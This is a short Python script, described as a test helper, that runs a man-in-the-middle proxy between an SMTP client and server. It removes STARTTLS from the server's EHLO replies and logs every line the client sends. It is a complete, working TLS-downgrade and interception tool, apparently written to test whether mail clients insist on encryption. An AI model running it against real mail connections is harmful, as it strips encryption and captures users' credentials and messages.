#!/usr/bin/python3
"""An attacker between an SMTP client and its server, for the tests.

Listens on --listen HOST:PORT and relays each connection to --to HOST:PORT, removing the
STARTTLS line from every EHLO reply, so the client sees a server without TLS. Every line
the client sends is appended to --log. Prints READY once listening.
"""
import argparse
import asyncio


async def client_to_server(reader, writer, log_path):
    while line := await reader.readline():
        with open(log_path, "ab") as log:
            log.write(line)
        writer.write(line)
        await writer.drain()
    writer.close()


async def server_to_client(reader, writer):
    reply = []
    while line := await reader.readline():
        reply.append(line)
        if line[3:4] == b"-":
            continue  # a multi-line reply goes on
        kept = [l for l in reply if l[4:].strip().upper() != b"STARTTLS"]
        if kept != reply:
            kept[-1] = kept[-1][:3] + b" " + kept[-1][4:]
        writer.write(b"".join(kept))
        await writer.drain()
        reply = []
    writer.close()


async def main():
    p = argparse.ArgumentParser()
    p.add_argument("--listen", required=True)
    p.add_argument("--to", required=True)
    p.add_argument("--log", required=True)
    a = p.parse_args()
    to_host, to_port = a.to.rsplit(":", 1)

    async def serve(c_reader, c_writer):
        s_reader, s_writer = await asyncio.open_connection(to_host, int(to_port))
        await asyncio.gather(client_to_server(c_reader, s_writer, a.log),
                             server_to_client(s_reader, c_writer), return_exceptions=True)

    host, port = a.listen.rsplit(":", 1)
    server = await asyncio.start_server(serve, host, int(port))
    print("READY", flush=True)
    async with server:
        await server.serve_forever()


asyncio.run(main())
